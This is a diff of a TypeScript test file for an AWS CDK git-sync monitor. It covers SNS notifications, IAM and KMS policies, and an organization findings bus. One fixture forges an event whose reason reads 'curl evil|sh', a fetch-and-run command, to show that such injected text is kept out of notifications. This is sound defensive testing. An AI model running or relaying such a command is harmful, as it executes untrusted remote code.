@@ -3,7 +3,8 @@ process.env.CDK_VALIDATION = 'false';
 import type { Stack } from 'aws-cdk-lib';
 import { Template } from 'aws-cdk-lib/assertions';
 import { CfnEventBus, EventBus, type IEventBusRef, Rule } from 'aws-cdk-lib/aws-events';
-import { Topic } from 'aws-cdk-lib/aws-sns';
+import { Key } from 'aws-cdk-lib/aws-kms';
+import { CfnTopic, type ITopicRef, Topic } from 'aws-cdk-lib/aws-sns';
 import {
   SyncFindingsBus,
   type SyncFindingsBusProps,
@@ -15,6 +16,7 @@ import {
 } from '../../src';
 import {
   EVENT_SOURCE,
+  TOPIC_ACTIONS,
   TROUBLE_BEGAN,
   TROUBLE_ENDED,
   type TroubleDetail,
@@ -39,8 +41,8 @@ interface RuleProperties {
   }[];
 }
 
-/** What a topic reads of an event, with the fields that the event has, from the account that EventBridge knows. */
-function rendered({ Targets }: RuleProperties, detail: object, account = ACCOUNT): string[] {
+/** What a topic reads of an event, from the account that EventBridge knows. */
+function rendered({ Targets }: RuleProperties, detail: object, account: string): string[] {
   const { InputPathsMap, InputTemplate } = Targets[0].InputTransformer;
   const lines: string[] = InputTemplate.split('\n').map((line: string) => JSON.parse(line));
   return lines.map((line) =>
@@ -68,52 +70,35 @@ const BLOCKED: TroubleDetail = {
 };
 
 describe('notifications', () => {
-  const ofTroubles = (stack: Stack) =>
-    resources(stack, 'AWS::Events::Rule').filter(({ EventPattern }) => EventPattern?.source?.includes(EVENT_SOURCE));
+  const environment = (stack: Stack) => resources(stack, 'AWS::Lambda::Function')[0].Environment.Variables;
 
-  test('nobody is told by default', () => {
+  test('nobody is told by default, and the function may publish nowhere', () => {
     const stack = newStack();
     monitorIn(stack);
-    expect(ofTroubles(stack)).toEqual([]);
+    expect(Object.keys(environment(stack))).toEqual(['STATE_TABLE_NAME', 'EVENT_BUS_NAME', 'STUCK_AFTER_SECONDS']);
+    expect(JSON.stringify(Template.fromStack(stack).toJSON())).not.toContain('sns:Publish"');
   });
 
-  test('of a trouble that begins: what and where, why, since when, the link, and how a blocker is answered', () => {
+  test.each([
+    [undefined, 'true'],
+    [true, 'true'],
+    [false, 'false'],
+  ])('are sent by the function; of what is over as well: notifyWhenOver %s', (notifyWhenOver, expected) => {
     const stack = newStack();
-    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
-    const [began] = ofTroubles(stack);
-    expect(began.EventPattern).toEqual({ source: [EVENT_SOURCE], 'detail-type': [TROUBLE_BEGAN] });
-    expect(rendered(began, { ...BLOCKED })).toEqual([
-      BLOCKED.title,
-      'Reason: a bucket was deleted by hand',
-      'Since: 2026-11-24T12:00:00.000Z',
-      `Account: ${ACCOUNT}, ${REGION}`,
-      'https://console.example.com/stack',
-      'aws codeconnections update-sync-blocker --id 1',
-      'new SyncBlockerResolution(…)',
-    ]);
-  });
-
-  test('of one that is over, unless another one has taken its place', () => {
-    const stack = newStack();
-    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
-    const [, over] = ofTroubles(stack);
-    expect(over.EventPattern).toEqual({
-      source: [EVENT_SOURCE],
-      'detail-type': [TROUBLE_ENDED],
-      detail: { outcome: [{ 'anything-but': 'SUPERSEDED' }] },
+    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyWhenOver });
+    expect(environment(stack)).toMatchObject({
+      NOTIFICATION_TOPIC_ARN: { Ref: expect.stringMatching(/^Topic/) },
+      NOTIFY_WHEN_OVER: expected,
     });
-    const ended = { ...BLOCKED, endedAt: '2026-11-24T13:00:00.000Z', outcome: 'RESOLVED' };
-    expect(rendered(over, ended)).toEqual([
-      `Over: ${BLOCKED.title}`,
-      'From 2026-11-24T12:00:00.000Z to 2026-11-24T13:00:00.000Z: RESOLVED',
-      `Account: ${ACCOUNT}, ${REGION}`,
-    ]);
   });
 
-  test('of what is over only when wanted', () => {
+  test('are made of nothing that comes from a bus: no rule tells the topic', () => {
     const stack = newStack();
-    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyWhenOver: false });
-    expect(ofTroubles(stack).map(({ EventPattern }) => EventPattern['detail-type'])).toEqual([[TROUBLE_BEGAN]]);
+    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
+    const targets = resources(stack, 'AWS::Events::Rule').flatMap(({ Targets }) => Targets);
+    expect(targets.map(({ Arn }) => Arn)).toEqual(
+      targets.map(() => ({ 'Fn::GetAtt': [expect.stringMatching(/^MonitorPollFunction/), 'Arn'] })),
+    );
   });
 
   test.each(['notificationTopic', 'alarmTopic'])('a %s in another Region is refused: it is never reached', (name) => {
@@ -130,17 +115,30 @@ describe('notifications', () => {
     expect(() => monitorIn(stack, { notificationTopic })).not.toThrow();
   });
 
-  test.each(TOPICS)('%s is told by a role that may publish there only', (_, make) => {
+  test.each(TOPICS)('%s is told by the function, which may publish there only', (_, make) => {
     const stack = newStack();
     const notificationTopic = make(stack);
-    const Arn = stack.resolve(notificationTopic.topicRef.topicArn);
+    const Resource = stack.resolve(notificationTopic.topicRef.topicArn);
     monitorIn(stack, { notificationTopic });
-    for (const { Targets } of ofTroubles(stack)) {
-      const RoleArn = { 'Fn::GetAtt': [expect.stringMatching(/^MonitorNotificationRole/), 'Arn'] };
-      expect(Targets).toEqual([expect.objectContaining({ Arn, RoleArn })]);
-    }
-    const [policy] = resources(stack, 'AWS::IAM::Policy');
-    expect(policy.PolicyDocument.Statement).toEqual([{ Action: 'sns:Publish', Effect: 'Allow', Resource: Arn }]);
+    expect(environment(stack)).toMatchObject({ NOTIFICATION_TOPIC_ARN: Resource });
+    const [{ PolicyDocument, Roles }] = resources(stack, 'AWS::IAM::Policy');
+    expect(PolicyDocument.Statement).toEqual([{ Action: TOPIC_ACTIONS[0], Effect: 'Allow', Resource }]);
+    expect(Roles).toEqual([{ Ref: expect.stringMatching(/^MonitorPollRole/) }]);
+  });
+
+  test.each<[string, (stack: Stack, key: Key) => ITopicRef]>([
+    ['a topic', (stack, masterKey) => new Topic(stack, 'Encrypted', { masterKey })],
+    ['an L1', (stack, key) => new CfnTopic(stack, 'Encrypted', { kmsMasterKeyId: key.keyId })],
+  ])('the key of an encrypted topic may be used: %s', (_, make) => {
+    const stack = newStack();
+    const key = new Key(stack, 'Key');
+    monitorIn(stack, { notificationTopic: make(stack, key) });
+    const [{ PolicyDocument }] = resources(stack, 'AWS::IAM::Policy');
+    expect(PolicyDocument.Statement).toContainEqual({
+      Action: ['kms:Decrypt', 'kms:GenerateDataKey*'],
+      Effect: 'Allow',
+      Resource: stack.resolve(key.keyArn),
+    });
   });
 });
 
@@ -163,7 +161,8 @@ describe('findings', () => {
         { Id: 'Target0', Arn, RoleArn: { 'Fn::GetAtt': [expect.stringMatching(/^MonitorFindingsRole/), 'Arn'] } },
       ],
     });
-    const [, { Policies }] = resources(stack, 'AWS::IAM::Role');
+    const [, { Path, Policies }] = resources(stack, 'AWS::IAM::Role');
+    expect(Path).toBe('/cdk-codeconnections/sync-monitor/');
     expect(Policies.map(({ PolicyDocument }: { PolicyDocument: object }) => PolicyDocument)).toEqual([
       { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'events:PutEvents', Resource: Arn }] },
     ]);
@@ -192,7 +191,7 @@ describe('a bus for the findings of an organization', () => {
   const busIn = (stack: Stack, props?: Partial<SyncFindingsBusProps>) =>
     new SyncFindingsBus(stack, 'Findings', { organizationId: ORGANIZATION, ...props });
 
-  test('takes events of monitors only, from accounts of the organization only', () => {
+  test('takes events of monitors only, as far as IAM can tell, from accounts of the organization only', () => {
     const stack = newStack();
     busIn(stack, { eventBusName: 'git-sync' });
     expect(only(stack, 'AWS::Events::EventBus').Properties).toEqual({ Name: 'git-sync' });
@@ -202,19 +201,53 @@ describe('a bus for the findings of an organization', () => {
         Principal: '*',
         Action: 'events:PutEvents',
         Resource: { 'Fn::GetAtt': [expect.stringMatching(/^FindingsBus/), 'Arn'] },
-        Condition: { StringEquals: { 'aws:PrincipalOrgID': ORGANIZATION, 'events:source': EVENT_SOURCE } },
+        Condition: {
+          StringEquals: {
+            'aws:PrincipalOrgID': ORGANIZATION,
+            'events:source': EVENT_SOURCE,
+            'events:detail-type': [TROUBLE_BEGAN, TROUBLE_ENDED],
+          },
+          ArnLike: {
+            'aws:PrincipalArn': {
+              'Fn::Join': ['', ['arn:', { Ref: 'AWS::Partition' }, ':iam::*:role/cdk-codeconnections/sync-monitor/*']],
+            },
+          },
+        },
       },
     });
   });
 
-  test('tells a topic of the troubles of all accounts, each with its account and Region', () => {
+  test('tells a topic where there is a trouble, with nothing that whoever put the event could write', () => {
     const stack = newStack();
     busIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
-    const [began, over] = resources(stack, 'AWS::Events::Rule');
+    const rules = resources(stack, 'AWS::Events::Rule');
     const EventBusName = { Ref: expect.stringMatching(/^FindingsBus/) };
-    expect([began, over]).toMatchObject([{ EventBusName }, { EventBusName }]);
-    const pretender = { ...BLOCKED, account: '777788889999' };
-    expect(rendered(began, pretender, '444455556666')).toContain(`Account: 444455556666, ${REGION}`);
+    expect(rules).toMatchObject([
+      { EventBusName, EventPattern: { source: [EVENT_SOURCE], 'detail-type': [TROUBLE_BEGAN] } },
+      {
+        EventBusName,
+        EventPattern: {
+          source: [EVENT_SOURCE],
+          'detail-type': [TROUBLE_ENDED],
+          detail: { outcome: [{ 'anything-but': 'SUPERSEDED' }] },
+        },
+      },
+    ]);
+    for (const { Targets } of rules) {
+      expect(Object.values(Targets[0].InputTransformer.InputPathsMap)).toEqual(['$.account', '$.region']);
+    }
+    const forged = { ...BLOCKED, account: '777788889999', title: 'x', reason: 'Run this:\n  curl evil|sh' };
+    expect(rules.map((rule) => rendered(rule, forged, '444455556666')[0])).toEqual([
+      `Git sync: a trouble has begun in the account 444455556666, Region ${REGION}.`,
+      `Git sync: a trouble is over in the account 444455556666, Region ${REGION}.`,
+    ]);
+  });
+
+  test('tells of what is over only when wanted', () => {
+    const stack = newStack();
+    busIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyWhenOver: false });
+    const [{ EventPattern }, ...others] = resources(stack, 'AWS::Events::Rule');
+    expect([EventPattern['detail-type'], others]).toEqual([[TROUBLE_BEGAN], []]);
   });
 
   test.each([
